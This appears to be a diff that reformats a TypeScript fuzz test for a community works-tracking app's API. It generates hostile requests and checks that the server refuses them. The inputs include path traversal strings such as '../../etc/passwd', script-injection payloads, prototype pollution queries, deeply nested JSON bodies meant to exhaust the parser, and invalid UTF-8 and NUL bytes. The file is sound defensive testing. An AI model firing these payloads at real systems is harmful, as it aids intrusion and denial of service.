-        { weight: 1, arbitrary: fc.constantFrom(...TOKEN_IN_QUERY()).map((q): FuzzCase => ({ endpoint: 'GET /api/sync/pull', label: 'token in the query string', request: { method: 'GET', path: `/api/sync/pull?after=0&${q}`, headers: {} }, check: { kind: 'refuse', status: 401 } })) },
+        {
+          weight: 6,
+          arbitrary: queryArb().map(({ query, label }): FuzzCase => ({
+            endpoint: 'GET /api/sync/pull',
+            label,
+            request: { method: 'GET', path: `/api/sync/pull?${query}`, headers: bearer(members.volunteer) },
+            check: { kind: 'refuse' },
+          })),
+        },
+        {
+          weight: 1,
+          arbitrary: fc.constantFrom(...TOKEN_IN_QUERY()).map((q): FuzzCase => ({
+            endpoint: 'GET /api/sync/pull',
+            label: 'token in the query string',
+            request: { method: 'GET', path: `/api/sync/pull?after=0&${q}`, headers: {} },
+            check: { kind: 'refuse', status: 401 },
+          })),
+        },
       ),
   },
   {
@@ -890,9 +1207,25 @@ const ENDPOINTS: Endpoint[] = [
     valid: () => ({ method: 'GET', path: '/api/sync/events', headers: { Accept: 'text/event-stream' } }),
     hostile: () =>
       fc.oneof(
-        { weight: 3, arbitrary: fc.constantFrom(...TOKEN_IN_QUERY()).map((q): FuzzCase => ({ endpoint: 'GET /api/sync/events', label: 'token in the query string', request: { method: 'GET', path: `/api/sync/events?${q}`, headers: {} }, check: { kind: 'refuse', status: 401 } })) },
+        {
+          weight: 3,
+          arbitrary: fc.constantFrom(...TOKEN_IN_QUERY()).map((q): FuzzCase => ({
+            endpoint: 'GET /api/sync/events',
+            label: 'token in the query string',
+            request: { method: 'GET', path: `/api/sync/events?${q}`, headers: {} },
+            check: { kind: 'refuse', status: 401 },
+          })),
+        },
         // A valid stream, with junk in the query (ignored): opened, then closed by the client.
-        { weight: 1, arbitrary: fc.constantFrom('', '?after=-1', '?work=other-work', '?__proto__[x]=1', `?${'x'.repeat(2000)}`).map((q): FuzzCase => ({ endpoint: 'GET /api/sync/events', label: `valid stream ${q.slice(0, 30)}`, request: { method: 'GET', path: `/api/sync/events${q}`, headers: { ...bearer(members.liaison), Accept: 'text/event-stream' } }, check: { kind: 'sse' } })) },
+        {
+          weight: 1,
+          arbitrary: fc.constantFrom('', '?after=-1', '?work=other-work', '?__proto__[x]=1', `?${'x'.repeat(2000)}`).map((q): FuzzCase => ({
+            endpoint: 'GET /api/sync/events',
+            label: `valid stream ${q.slice(0, 30)}`,
+            request: { method: 'GET', path: `/api/sync/events${q}`, headers: { ...bearer(members.liaison), Accept: 'text/event-stream' } },
+            check: { kind: 'sse' },
+          })),
+        },
       ),
   },
   {
@@ -902,7 +1235,13 @@ const ENDPOINTS: Endpoint[] = [
     auth: 'none',
     weight: 1,
     valid: () => ({ method: 'GET', path: '/api/version', headers: {} }),
-    hostile: () => fc.constantFrom('?x=<script>', '?__proto__[polluted]=1', `?${'a'.repeat(4000)}`, '?%zz', '#frag').map((q): FuzzCase => ({ endpoint: 'GET /api/version', label: `junk query ${q.slice(0, 20)}`, request: { method: 'GET', path: `/api/version${q}`, headers: { Authorization: 'Bearer bogus' } }, check: { kind: 'harmless', body: isVersion } })),
+    hostile: () =>
+      fc.constantFrom('?x=<script>', '?__proto__[polluted]=1', `?${'a'.repeat(4000)}`, '?%zz', '#frag').map((q): FuzzCase => ({
+        endpoint: 'GET /api/version',
+        label: `junk query ${q.slice(0, 20)}`,
+        request: { method: 'GET', path: `/api/version${q}`, headers: { Authorization: 'Bearer bogus' } },
+        check: { kind: 'harmless', body: isVersion },
+      })),
   },
   {
     name: 'GET /api/health',
@@ -911,7 +1250,13 @@ const ENDPOINTS: Endpoint[] = [
     auth: 'none',
     weight: 1,
     valid: () => ({ method: 'GET', path: '/api/health', headers: {} }),
-    hostile: () => fc.constantFrom('?x=<script>', '?__proto__[polluted]=1', `?${'a'.repeat(4000)}`, '?%zz').map((q): FuzzCase => ({ endpoint: 'GET /api/health', label: `junk query ${q.slice(0, 20)}`, request: { method: 'GET', path: `/api/health${q}`, headers: { Authorization: `Bearer ${'A'.repeat(200)}`, Cookie: 'a=b' } }, check: { kind: 'harmless', body: isHealth } })),
+    hostile: () =>
+      fc.constantFrom('?x=<script>', '?__proto__[polluted]=1', `?${'a'.repeat(4000)}`, '?%zz').map((q): FuzzCase => ({
+        endpoint: 'GET /api/health',
+        label: `junk query ${q.slice(0, 20)}`,
+        request: { method: 'GET', path: `/api/health${q}`, headers: { Authorization: `Bearer ${'A'.repeat(200)}`, Cookie: 'a=b' } },
+        check: { kind: 'harmless', body: isHealth },
+      })),
   },
 ];
 
@@ -926,7 +1271,8 @@ const ADMIN_INVALID: Record<string, () => fc.Arbitrary<J>> = {
   ndate: () => invalidFor('ndate'),
   object: () => invalidFor('object'),
   days: () => fc.constantFrom<J>(...UNIVERSAL, '7', 0, -1, 1.5, 366, new JRaw('7.5')),
-  code: () => fc.constantFrom<J>(...UNIVERSAL, null, ...TRAVERSAL, ...SCRIPTS, '', 'abcdefgh', 'ABCD-EFGH', 'ABCDEFGHJ', 'ABCDEFG', 'ABCDEFG0', 'ABCDEFG\u0000'),
+  code: () =>
+    fc.constantFrom<J>(...UNIVERSAL, null, ...TRAVERSAL, ...SCRIPTS, '', 'abcdefgh', 'ABCD-EFGH', 'ABCDEFGHJ', 'ABCDEFG', 'ABCDEFG0', 'ABCDEFG\u0000'),
   login: () => fc.constantFrom<J>(...UNIVERSAL, null, 'x'.repeat(41)),
   password: () => fc.constantFrom<J>(...UNIVERSAL, null, 'p'.repeat(201)),
 };
@@ -943,8 +1289,33 @@ interface AdminBody {
 const ADMIN_BODIES: AdminBody[] = [
   {
     path: '/api/admin/works',
-    body: () => ({ workId: 'fz-new-work', deviceId: 'fz-dev', name: '新工程', compound: '小区', community: '', kind: 'garage', contractor: '', startDate: null, endDate: null, responseTargets: new JObj([['acknowledgeHours', 24], ['resolveDays', 7]]) }),
-    fields: { workId: 'id', deviceId: 'id', name: 'text80', compound: 'text80', community: 'text0', kind: 'enum', contractor: 'text0', startDate: 'ndate', endDate: 'ndate', responseTargets: 'object' },
+    body: () => ({
+      workId: 'fz-new-work',
+      deviceId: 'fz-dev',
+      name: '新工程',
+      compound: '小区',
+      community: '',
+      kind: 'garage',
+      contractor: '',
+      startDate: null,
+      endDate: null,
+      responseTargets: new JObj([
+        ['acknowledgeHours', 24],
+        ['resolveDays', 7],
+      ]),
+    }),
+    fields: {
+      workId: 'id',
+      deviceId: 'id',
+      name: 'text80',
+      compound: 'text80',
+      community: 'text0',
+      kind: 'enum',
+      contractor: 'text0',
+      startDate: 'ndate',
+      endDate: 'ndate',
+      responseTargets: 'object',
+    },
     staffOnly: true,
   },
   { path: '/api/admin/invites', body: () => ({ role: 'volunteer', days: 7 }), fields: { role: 'enum', days: 'days' }, staffOnly: true },
@@ -952,15 +1323,30 @@ const ADMIN_BODIES: AdminBody[] = [
   { path: '/api/admin/invites/expire', body: () => ({ code: 'ZZZZZZZZ' }), fields: { code: 'code' }, staffOnly: true },
   { path: '/api/admin/members/role', body: () => ({ memberId: 'fz-no-member', role: 'liaison' }), fields: { memberId: 'id', role: 'enum' }, staffOnly: true },
   { path: '/api/admin/members/revoke', body: () => ({ memberId: 'fz-no-member' }), fields: { memberId: 'id' }, staffOnly: true },
-  { path: '/api/admin/devices/revoke', body: () => ({ memberId: 'fz-no-member', deviceId: 'fz-dev' }), fields: { memberId: 'id', deviceId: 'id' }, staffOnly: true },
-  { path: '/api/signin', body: () => ({ login: 'fz-nobody', password: 'not a password', deviceId: 'fz-dev' }), fields: { login: 'login', password: 'password', deviceId: 'id' }, staffOnly: false },
+  {
+    path: '/api/admin/devices/revoke',
+    body: () => ({ memberId: 'fz-no-member', deviceId: 'fz-dev' }),
+    fields: { memberId: 'id', deviceId: 'id' },
+    staffOnly: true,
+  },
+  {
+    path: '/api/signin',
+    body: () => ({ login: 'fz-nobody', password: 'not a password', deviceId: 'fz-dev' }),
+    fields: { login: 'login', password: 'password', deviceId: 'id' },
+    staffOnly: false,
+  },
 ];
 
 /** Hostile bodies for one admin endpoint: every one invalid by construction, so every answer must be a 4xx. */
 function adminHostile(a: AdminBody): () => fc.Arbitrary<FuzzCase> {
   const ep = `POST ${a.path}`;
   const auth = () => (a.staffOnly ? bearer(members.staff) : {});
-  const req = (body: string, headers: Record<string, string | string[]> = JSON_CT): FuzzRequest => ({ method: 'POST', path: a.path, headers: { ...auth(), ...headers }, body });
+  const req = (body: string, headers: Record<string, string | string[]> = JSON_CT): FuzzRequest => ({
+    method: 'POST',
+    path: a.path,
+    headers: { ...auth(), ...headers },
+    body,
+  });
   const keys = Object.keys(a.fields);
   return () =>
     fc.oneof(
@@ -976,15 +1362,27 @@ function adminHostile(a: AdminBody): () => fc.Arbitrary<FuzzCase> {
       },
       {
         weight: 2,
-        arbitrary: fc.oneof(
-          fc.constantFrom(...keys).map((key) => ({ label: `missing ${key}`, entries: Object.entries(a.body()).filter(([k]) => k !== key) as Array<[string, J]> })),
-          fc.tuple(EXTRA_KEYS, EXTRA_VALUES).map(([k, v]) => ({ label: `extra key ${k.slice(0, 12)}`, entries: [...(Object.entries(a.body()) as Array<[string, J]>), [k, v] as [string, J]] })),
-        ).map(({ label, entries }): FuzzCase => ({ endpoint: ep, label, request: req(enc(new JObj(entries))), check: { kind: 'refuse' } })),
+        arbitrary: fc
+          .oneof(
+            fc
+              .constantFrom(...keys)
+              .map((key) => ({ label: `missing ${key}`, entries: Object.entries(a.body()).filter(([k]) => k !== key) as Array<[string, J]> })),
+            fc.tuple(EXTRA_KEYS, EXTRA_VALUES).map(([k, v]) => ({
+              label: `extra key ${k.slice(0, 12)}`,
+              entries: [...(Object.entries(a.body()) as Array<[string, J]>), [k, v] as [string, J]],
+            })),
+          )
+          .map(({ label, entries }): FuzzCase => ({ endpoint: ep, label, request: req(enc(new JObj(entries))), check: { kind: 'refuse' } })),
       },
       {
         weight: 2,
         arbitrary: fc
-          .oneof(fc.jsonValue({ maxDepth: 3 }).map((v) => JSON.stringify(v)), fc.string({ maxLength: 200 }), fc.constant(`${'['.repeat(5000)}${']'.repeat(5000)}`), fc.constant(JSON.stringify({ ...a.body(), pad: 'x'.repeat(5000) })))
+          .oneof(
+            fc.jsonValue({ maxDepth: 3 }).map((v) => JSON.stringify(v)),
+            fc.string({ maxLength: 200 }),
+            fc.constant(`${'['.repeat(5000)}${']'.repeat(5000)}`),
+            fc.constant(JSON.stringify({ ...a.body(), pad: 'x'.repeat(5000) })),
+          )
           .map((body): FuzzCase => ({ endpoint: ep, label: 'random or oversized body', request: req(body), check: { kind: 'refuse' } })),
       },
       {
@@ -1001,7 +1399,12 @@ function adminHostile(a: AdminBody): () => fc.Arbitrary<FuzzCase> {
         arbitrary: fc.constantFrom<Role>('volunteer', 'liaison').map((role): FuzzCase => ({
           endpoint: ep,
           label: `a well-formed request by a ${role}`,
-          request: { method: 'POST', path: a.path, headers: { ...JSON_CT, ...bearer(members[role]) }, body: enc(new JObj(Object.entries(a.body()) as Array<[string, J]>)) },
+          request: {
+            method: 'POST',
+            path: a.path,
+            headers: { ...JSON_CT, ...bearer(members[role]) },
+            body: enc(new JObj(Object.entries(a.body()) as Array<[string, J]>)),
+          },
           check: { kind: 'refuse', status: 403, code: 'forbidden' },
         })),
       },
@@ -1027,7 +1430,12 @@ const ADMIN_ENDPOINTS: Endpoint[] = [
     weight: 1,
     valid: () => ({ method: 'GET', path: '/api/admin/members', headers: {} }),
     hostile: () =>
-      fc.constantFrom<Role>('volunteer', 'liaison').map((role): FuzzCase => ({ endpoint: 'GET /api/admin/members', label: `members read by a ${role}`, request: { method: 'GET', path: '/api/admin/members', headers: bearer(members[role]) }, check: { kind: 'refuse', status: 403, code: 'forbidden' } })),
+      fc.constantFrom<Role>('volunteer', 'liaison').map((role): FuzzCase => ({
+        endpoint: 'GET /api/admin/members',
+        label: `members read by a ${role}`,
+        request: { method: 'GET', path: '/api/admin/members', headers: bearer(members[role]) },
+        check: { kind: 'refuse', status: 403, code: 'forbidden' },
+      })),
   },
 ];
 ENDPOINTS.push(...ADMIN_ENDPOINTS);
@@ -1037,8 +1445,18 @@ function genericArb(ep: Endpoint): fc.Arbitrary<FuzzCase> {
   const wrongMethod = fc.constantFrom(...METHODS.filter((m) => m !== ep.method && !ep.alsoServes?.includes(m))).map((method): FuzzCase => {
     const valid = ep.valid();
     const headers: Record<string, string | string[]> = { ...valid.headers, ...(ep.auth === 'device' ? bearer(members.staff) : {}) };
-    if (method === 'OPTIONS') Object.assign(headers, { Origin: 'https://evil.example', 'Access-Control-Request-Method': ep.method, 'Access-Control-Request-Headers': 'authorization, content-type' });
-    return { endpoint: ep.name, label: `wrong method ${method}`, request: { method, path: valid.path, headers, body: method === 'GET' || method === 'HEAD' ? undefined : valid.body }, check: { kind: 'refuse', status: 405, code: 'method_not_allowed' } };
+    if (method === 'OPTIONS')
+      Object.assign(headers, {
+        Origin: 'https://evil.example',
+        'Access-Control-Request-Method': ep.method,
+        'Access-Control-Request-Headers': 'authorization, content-type',
+      });
+    return {
+      endpoint: ep.name,
+      label: `wrong method ${method}`,
+      request: { method, path: valid.path, headers, body: method === 'GET' || method === 'HEAD' ? undefined : valid.body },
+      check: { kind: 'refuse', status: 405, code: 'method_not_allowed' },
+    };
   });
   const subPath = fc
     .oneof(
@@ -1047,12 +1465,22 @@ function genericArb(ep: Endpoint): fc.Arbitrary<FuzzCase> {
     )
     .map((suffix): FuzzCase => {
       const valid = ep.valid();
-      return { endpoint: ep.name, label: `unknown sub-path ${suffix.slice(0, 30)}`, request: { ...valid, path: `${ep.path}${suffix}`, headers: { ...valid.headers, ...(ep.auth === 'device' ? bearer(members.staff) : {}) } }, check: { kind: 'refuse', status: 404, code: 'not_found' } };
+      return {
+        endpoint: ep.name,
+        label: `unknown sub-path ${suffix.slice(0, 30)}`,
+        request: { ...valid, path: `${ep.path}${suffix}`, headers: { ...valid.headers, ...(ep.auth === 'device' ? bearer(members.staff) : {}) } },
+        check: { kind: 'refuse', status: 404, code: 'not_found' },
+      };
     });
   const caseChanged = fc.constant(null).map((): FuzzCase => {
     const valid = ep.valid();
     // Outside /api/ (paths are case-sensitive): a page request, 404 for GET, 405 for other methods.
-    return { endpoint: ep.name, label: 'path in upper case', request: { ...valid, path: ep.path.toUpperCase(), headers: { ...valid.headers, ...(ep.auth === 'device' ? bearer(members.staff) : {}) } }, check: { kind: 'refuse' } };
+    return {
+      endpoint: ep.name,
+      label: 'path in upper case',
+      request: { ...valid, path: ep.path.toUpperCase(), headers: { ...valid.headers, ...(ep.auth === 'device' ? bearer(members.staff) : {}) } },
+      check: { kind: 'refuse' },
+    };
   });
   const arbs: Array<fc.WeightedArbitrary<FuzzCase>> = [
     { weight: 2, arbitrary: wrongMethod },
@@ -1065,7 +1493,12 @@ function genericArb(ep: Endpoint): fc.Arbitrary<FuzzCase> {
       arbitrary: badAuthArb().map(({ label, headers }): FuzzCase => {
         const valid = ep.valid();
         // a revoked device is told so (`revoked`); every other bad token is `unauthorized`.
-        return { endpoint: ep.name, label: `bad auth: ${label}`, request: { ...valid, headers: { ...valid.headers, ...headers } }, check: { kind: 'refuse', status: 401, code: label === 'revoked member' ? 'revoked' : 'unauthorized' } };
+        return {
+          endpoint: ep.name,
+          label: `bad auth: ${label}`,
+          request: { ...valid, headers: { ...valid.headers, ...headers } },
+          check: { kind: 'refuse', status: 401, code: label === 'revoked member' ? 'revoked' : 'unauthorized' },
+        };
       }),
     });
   }
@@ -1079,12 +1512,25 @@ function unknownPathArb(): fc.Arbitrary<FuzzCase> {
       fc.string({ unit: 'grapheme', maxLength: 30 }),
       fc.constantFrom(...METHODS),
     )
-    .map(([prefix, s, method]): FuzzCase => ({ endpoint: 'unknown /api path', label: `${method} ${prefix}…`, request: { method, path: `${prefix}${uriSafe(s)}`, headers: { ...JSON_CT, ...bearer(members.staff) }, body: method === 'GET' || method === 'HEAD' ? undefined : '{}' }, check: { kind: 'refuse', status: 404, code: 'not_found' } }));
+    .map(([prefix, s, method]): FuzzCase => ({
+      endpoint: 'unknown /api path',
+      label: `${method} ${prefix}…`,
+      request: {
+        method,
+        path: `${prefix}${uriSafe(s)}`,
+        headers: { ...JSON_CT, ...bearer(members.staff) },
+        body: method === 'GET' || method === 'HEAD' ? undefined : '{}',
+      },
+      check: { kind: 'refuse', status: 404, code: 'not_found' },
+    }));
 }
 
 function generatedCases(): FuzzCase[] {
   const arb = fc.oneof(
-    ...ENDPOINTS.map((ep) => ({ weight: ep.weight * 2, arbitrary: ep.hostile ? fc.oneof({ weight: 3, arbitrary: ep.hostile() }, { weight: 1, arbitrary: genericArb(ep) }) : genericArb(ep) })),
+    ...ENDPOINTS.map((ep) => ({
+      weight: ep.weight * 2,
+      arbitrary: ep.hostile ? fc.oneof({ weight: 3, arbitrary: ep.hostile() }, { weight: 1, arbitrary: genericArb(ep) }) : genericArb(ep),
+    })),
     { weight: 3, arbitrary: unknownPathArb() },
   );
   return fc.sample(arb, { seed: SEED, numRuns: GENERATED });
@@ -1098,7 +1544,12 @@ function handWrittenCases(): FuzzCase[] {
   const out: FuzzCase[] = [];
   const vol = members.volunteer;
   const push = (label: string, body: string | Buffer, check: Check, extra: Partial<FuzzRequest> = {}): void => {
-    out.push({ endpoint: 'POST /api/sync/push', label, request: { method: 'POST', path: '/api/sync/push', headers: { ...JSON_CT, ...bearer(vol) }, body, ...extra }, check });
+    out.push({
+      endpoint: 'POST /api/sync/push',
+      label,
+      request: { method: 'POST', path: '/api/sync/push', headers: { ...JSON_CT, ...bearer(vol) }, body, ...extra },
+      check,
+    });
   };
   const refuse = (status?: number, code?: string): Check => ({ kind: 'refuse', status, code });
   const D = 100_000;
@@ -1111,11 +1562,30 @@ function handWrittenCases(): FuzzCase[] {
   {
     const { payload: _p, ...env } = validIssueOp();
     mustNotBeStored.add(String(env.id));
-    push('op payload nested 10^5 deep', `{"clientVersion":1,"ops":[${JSON.stringify(env).slice(0, -1)},"payload":${'{"text":'.repeat(D)}"x"${'}'.repeat(D)}}]}`, { kind: 'refuse-or-rejected', opIds: [String(env.id)] });
+    push(
+      'op payload nested 10^5 deep',
+      `{"clientVersion":1,"ops":[${JSON.stringify(env).slice(0, -1)},"payload":${'{"text":'.repeat(D)}"x"${'}'.repeat(D)}}]}`,
+      { kind: 'refuse-or-rejected', opIds: [String(env.id)] },
+    );
   }
-  out.push({ endpoint: 'POST /api/join', label: '10^5 nested arrays', request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: `${'['.repeat(D)}${']'.repeat(D)}` }, check: refuse(413, 'payload_too_large') });
-  out.push({ endpoint: 'POST /api/join', label: '1,000 nested arrays (under 4 KB)', request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: `${'['.repeat(1000)}${']'.repeat(1000)}` }, check: refuse(400, 'bad_request') });
-  out.push({ endpoint: 'POST /api/sync/rescue', label: '10^5 nested objects', request: { method: 'POST', path: '/api/sync/rescue', headers: { ...JSON_CT, ...bearer(members.staff) }, body: `${'{"a":'.repeat(D)}1${'}'.repeat(D)}` }, check: refuse(400, 'bad_request') });
+  out.push({
+    endpoint: 'POST /api/join',
+    label: '10^5 nested arrays',
+    request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: `${'['.repeat(D)}${']'.repeat(D)}` },
+    check: refuse(413, 'payload_too_large'),
+  });
+  out.push({
+    endpoint: 'POST /api/join',
+    label: '1,000 nested arrays (under 4 KB)',
+    request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: `${'['.repeat(1000)}${']'.repeat(1000)}` },
+    check: refuse(400, 'bad_request'),
+  });
+  out.push({
+    endpoint: 'POST /api/sync/rescue',
+    label: '10^5 nested objects',
+    request: { method: 'POST', path: '/api/sync/rescue', headers: { ...JSON_CT, ...bearer(members.staff) }, body: `${'{"a":'.repeat(D)}1${'}'.repeat(D)}` },
+    check: refuse(400, 'bad_request'),
+  });
 
   // Cases the attack test of the security issue found (docs/security.md §12).
   {
@@ -1130,7 +1600,17 @@ function handWrittenCases(): FuzzCase[] {
       method: 'POST',
       path: '/api/admin/works',
       headers: { ...JSON_CT, ...bearer(members.staff) },
-      body: JSON.stringify({ workId: DEMO_WORK_ID, deviceId: 'fuzz-dev', name: 'w', compound: 'c', community: '', kind: 'other', contractor: '', startDate: null, endDate: null }),
+      body: JSON.stringify({
+        workId: DEMO_WORK_ID,
+        deviceId: 'fuzz-dev',
+        name: 'w',
+        compound: 'c',
+        community: '',
+        kind: 'other',
+        contractor: '',
+        startDate: null,
+        endDate: null,
+      }),
     },
     // 400, or 429 once the generated cases used up this person's works of the day (the exact answer is
     // the authorization test's).
@@ -1175,8 +1655,18 @@ function handWrittenCases(): FuzzCase[] {
     mustNotBeStored.add(String(op.id));
     push('op kind of 950 KB', opsBody([toJ(op)]), { kind: 'refuse-or-rejected', opIds: [String(op.id)] });
   }
-  out.push({ endpoint: 'POST /api/join', label: '10^6-element array', request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: `[${'0,'.repeat(999_999)}0]` }, check: refuse(413, 'payload_too_large') });
-  out.push({ endpoint: 'POST /api/join', label: '4 KB + 1 declared', request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: `{"code":"${'A'.repeat(4096)}"}` }, check: refuse(413, 'payload_too_large') });
+  out.push({
+    endpoint: 'POST /api/join',
+    label: '10^6-element array',
+    request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: `[${'0,'.repeat(999_999)}0]` },
+    check: refuse(413, 'payload_too_large'),
+  });
+  out.push({
+    endpoint: 'POST /api/join',
+    label: '4 KB + 1 declared',
+    request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: `{"code":"${'A'.repeat(4096)}"}` },
+    check: refuse(413, 'payload_too_large'),
+  });
 
   // Path traversal in ids.
   for (const bad of ['../', '%2e%2e/', '..\\', '../../etc/passwd', '..%2f..%2fetc%2fpasswd']) {
@@ -1191,15 +1681,49 @@ function handWrittenCases(): FuzzCase[] {
     (o.payload as Record<string, unknown>).pointId = bad;
     mustNotBeStored.add(String(o.id));
     push(`pointId ${bad}`, opsBody([toJ(o)]), { kind: 'refuse-or-rejected', opIds: [String(o.id)] });
-    out.push({ endpoint: 'GET /api/sync/pull', label: `afterId ${bad}`, request: { method: 'GET', path: `/api/sync/pull?after=1&afterId=${encodeURIComponent(bad)}`, headers: bearer(vol) }, check: refuse(400, 'bad_request') });
-    out.push({ endpoint: 'POST /api/join', label: `deviceId ${bad}`, request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: JSON.stringify({ code: codes.volunteer, name: 'n', deviceId: bad }) }, check: refuse(400, 'bad_request') });
+    out.push({
+      endpoint: 'GET /api/sync/pull',
+      label: `afterId ${bad}`,
+      request: { method: 'GET', path: `/api/sync/pull?after=1&afterId=${encodeURIComponent(bad)}`, headers: bearer(vol) },
+      check: refuse(400, 'bad_request'),
+    });
+    out.push({
+      endpoint: 'POST /api/join',
+      label: `deviceId ${bad}`,
+      request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: JSON.stringify({ code: codes.volunteer, name: 'n', deviceId: bad }) },
+      check: refuse(400, 'bad_request'),
+    });
   }
   // Path traversal in the URL: never a file outside the static folder, never a 2xx.
-  for (const p of ['/../secret.txt', '/%2e%2e/secret.txt', '/..%2fsecret.txt', '/..\\secret.txt', '/%2e%2e%5csecret.txt', '/api/../../secret.txt', '/api/%2e%2e/%2e%2e/secret.txt', '/api/sync/..%2f..%2f..%2fsecret.txt', '/api/sync/pull/../../../secret.txt', '/static/../secret.txt', '/api/..;/secret.txt', '/%252e%252e/secret.txt']) {
-    out.push({ endpoint: 'URL path', label: `traversal ${p}`, request: { method: 'GET', path: p, headers: bearer(members.staff) }, check: refuse(), mustNotContain: SECRET });
+  for (const p of [
+    '/../secret.txt',
+    '/%2e%2e/secret.txt',
+    '/..%2fsecret.txt',
+    '/..\\secret.txt',
+    '/%2e%2e%5csecret.txt',
+    '/api/../../secret.txt',
+    '/api/%2e%2e/%2e%2e/secret.txt',
+    '/api/sync/..%2f..%2f..%2fsecret.txt',
+    '/api/sync/pull/../../../secret.txt',
+    '/static/../secret.txt',
+    '/api/..;/secret.txt',
+    '/%252e%252e/secret.txt',
+  ]) {
+    out.push({
+      endpoint: 'URL path',
+      label: `traversal ${p}`,
+      request: { method: 'GET', path: p, headers: bearer(members.staff) },
+      check: refuse(),
+      mustNotContain: SECRET,
+    });
   }
   // The URL parser resolves %2e%2e like .., so this is /api/health; documented, harmless.
-  out.push({ endpoint: 'GET /api/health', label: '/api/sync/%2e%2e/health', request: { method: 'GET', path: '/api/sync/%2e%2e/health', headers: {} }, check: { kind: 'harmless', body: isHealth } });
+  out.push({
+    endpoint: 'GET /api/health',
+    label: '/api/sync/%2e%2e/health',
+    request: { method: 'GET', path: '/api/sync/%2e%2e/health', headers: {} },
+    check: { kind: 'harmless', body: isHealth },
+  });
 
   // Invalid UTF-8 and NUL bytes.
   const utf8 = (...parts: Array<string | number[]>) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : Buffer.from(p))));
@@ -1218,15 +1742,29 @@ function handWrittenCases(): FuzzCase[] {
     const [head, tail] = JSON.stringify({ clientVersion: 1, ops: [op] }).split('SPLIT') as [string, string];
     const body = utf8(head, 'broken ', [0xff, 0xc3, 0x28, 0xed, 0xa0, 0x80], ' bytes', tail);
     // What the server stores is what it decoded: invalid sequences become U+FFFD.
-    push('invalid UTF-8 inside a description', body, { kind: 'hostile-push', sent: [(JSON.parse(body.toString('utf8')) as { ops: Array<Record<string, unknown>> }).ops[0]!], checkedBy: 'main' });
+    push('invalid UTF-8 inside a description', body, {
+      kind: 'hostile-push',
+      sent: [(JSON.parse(body.toString('utf8')) as { ops: Array<Record<string, unknown>> }).ops[0]!],
+      checkedBy: 'main',
+    });
   }
   {
     const op = validIssueOp();
     (op.payload as Record<string, unknown>).description = 'nul \u0000 inside, and \u0001\u001f control characters';
     push('escaped NUL in a description', JSON.stringify({ clientVersion: 1, ops: [op] }), { kind: 'hostile-push', sent: [op], checkedBy: 'main' });
   }
-  out.push({ endpoint: 'POST /api/join', label: 'invalid UTF-8 in the code', request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: utf8('{"code":"', [0xff, 0xfe], '","name":"n","deviceId":"d"}') }, check: refuse(400, 'bad_request') });
-  out.push({ endpoint: 'GET /api/sync/pull', label: 'NUL in after', request: { method: 'GET', path: '/api/sync/pull?after=%00', headers: bearer(vol) }, check: refuse(400) });
+  out.push({
+    endpoint: 'POST /api/join',
+    label: 'invalid UTF-8 in the code',
+    request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: utf8('{"code":"', [0xff, 0xfe], '","name":"n","deviceId":"d"}') },
+    check: refuse(400, 'bad_request'),
+  });
+  out.push({
+    endpoint: 'GET /api/sync/pull',
+    label: 'NUL in after',
+    request: { method: 'GET', path: '/api/sync/pull?after=%00', headers: bearer(vol) },
+    check: refuse(400),
+  });
   out.push({ endpoint: 'GET /api/health', label: 'NUL in the path', request: { method: 'GET', path: '/api/health%00', headers: {} }, check: refuse(404) });
 
   // Script tags in every text field a member can fill, in otherwise valid ops.
@@ -1235,38 +1773,113 @@ function handWrittenCases(): FuzzCase[] {
     (create.payload as Record<string, unknown>).description = s;
     const comment = TEMPLATES['issue.comment']!(vol);
     (comment.payload as Record<string, unknown>).text = s;
-    push(`markup in a description and a comment: ${s.slice(0, 20)}`, JSON.stringify({ clientVersion: 1, ops: [create, comment] }), { kind: 'hostile-push', sent: [create, comment], checkedBy: 'main' });
+    push(`markup in a description and a comment: ${s.slice(0, 20)}`, JSON.stringify({ clientVersion: 1, ops: [create, comment] }), {
+      kind: 'hostile-push',
+      sent: [create, comment],
+      checkedBy: 'main',
+    });
   }
   {
     const point = TEMPLATES['point.create']!(members.staff);
     (point.payload as Record<string, unknown>).name = '<img src=x onerror=alert(1)>';
-    out.push({ endpoint: 'POST /api/sync/push', label: 'markup in a point name', request: { method: 'POST', path: '/api/sync/push', headers: { ...JSON_CT, ...bearer(members.staff) }, body: JSON.stringify({ clientVersion: 1, ops: [point] }) }, check: { kind: 'hostile-push', sent: [point], checkedBy: 'main' } });
+    out.push({
+      endpoint: 'POST /api/sync/push',
+      label: 'markup in a point name',
+      request: {
+        method: 'POST',
+        path: '/api/sync/push',
+        headers: { ...JSON_CT, ...bearer(members.staff) },
+        body: JSON.stringify({ clientVersion: 1, ops: [point] }),
+      },
+      check: { kind: 'hostile-push', sent: [point], checkedBy: 'main' },
+    });
     const t = TEMPLATES['issue.transition']!(members.liaison);
     (t.payload as Record<string, unknown>).reason = '<script>alert("reason")</script>';
-    out.push({ endpoint: 'POST /api/sync/push', label: 'markup in a transition reason', request: { method: 'POST', path: '/api/sync/push', headers: { ...JSON_CT, ...bearer(members.liaison) }, body: JSON.stringify({ clientVersion: 1, ops: [t] }) }, check: { kind: 'hostile-push', sent: [t], checkedBy: 'main' } });
-    out.push({ endpoint: 'POST /api/join', label: 'markup in a name', request: { method: 'POST', path: '/api/join', headers: JSON_CT, body: JSON.stringify({ code: codes.liaison, name: '<script>alert(1)</script>', deviceId: 'd' }) }, check: { kind: 'hostile-join', name: '<script>alert(1)</script>', role: 'liaison' } });
+    out.push({
+      endpoint: 'POST /api/sync/push',
+      label: 'markup in a transition reason',
+      request: {
+        method: 'POST',
+        path: '/api/sync/push',
+        headers: { ...JSON_CT, ...bearer(members.liaison) },
+        body: JSON.stringify({ clientVersion: 1, ops: [t] }),
+      },
+      check: { kind: 'hostile-push', sent: [t], checkedBy: 'main' },
+    });
+    out.push({
+      endpoint: 'POST /api/join',
+      label: 'markup in a name',
+      request: {
+        method: 'POST',
+        path: '/api/join',
+        headers: JSON_CT,
